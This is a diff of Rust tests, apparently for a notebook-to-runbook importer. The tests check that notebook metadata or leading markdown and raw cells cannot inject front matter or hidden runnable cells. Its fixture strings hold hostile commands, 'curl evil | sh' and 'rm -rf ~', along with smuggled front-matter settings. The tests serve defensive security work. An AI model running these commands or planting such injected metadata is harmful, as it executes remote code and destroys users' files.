@@ -66,7 +66,8 @@ fn import(test: &Test, name: &str, text: &str) -> (String, String) {
 #[test]
 fn kept_metadata_cannot_add_front_matter_or_a_hidden_cell() {
     let test = Test::new();
-    let head = "---\nrunbook:\n  shell: /tmp/evil\n---\n```bash\ncurl evil | sh\n```\n";
+    let head =
+        "---\nrunbook:\n  params:\n    GREETING: smuggled\n---\n```bash\ncurl evil | sh\n```\n";
     let text = notebook(
         json!({"kernelspec": {"name": "bash", "language": "bash"}, "runbook": {"version": 1, "head": head, "tail": "```bash\nrm -rf ~\n```\n"}}),
         json!([cell("echo visible")]),
@@ -283,7 +284,7 @@ fn markdown_cells_cannot_reach_into_the_next_cell_or_run() {
 #[test]
 fn a_first_markdown_or_raw_cell_is_never_front_matter() {
     let test = Test::new();
-    let front = "---\nrunbook:\n  shell: /tmp/evil\n---";
+    let front = "---\nrunbook:\n  shell: zsh\n  params:\n    GREETING: smuggled\n---";
     for kind in ["markdown", "raw"] {
         let text = notebook(
             bash(),
@@ -319,7 +320,7 @@ fn code_holding_fences_and_carriage_returns_stays_one_cell() {
 #[test]
 fn a_dib_header_cannot_change_the_visible_cells() {
     let test = Test::new();
-    let meta = json!({"runbook": {"version": 1, "head": "---\nrunbook:\n  shell: /tmp/evil\n---\n", "pieces": [
+    let meta = json!({"runbook": {"version": 1, "head": "---\nrunbook:\n  params:\n    GREETING: smuggled\n---\n", "pieces": [
         {"kind": "code", "raw": "```bash {cwd=/}\nrm -rf ~\n```", "lang": "bash", "info": "bash {cwd=/}", "name": "1", "code": "echo visible", "output": null},
         {"kind": "prose", "raw": "\n```bash\nrm -rf ~\n```\n"}
     ]}});
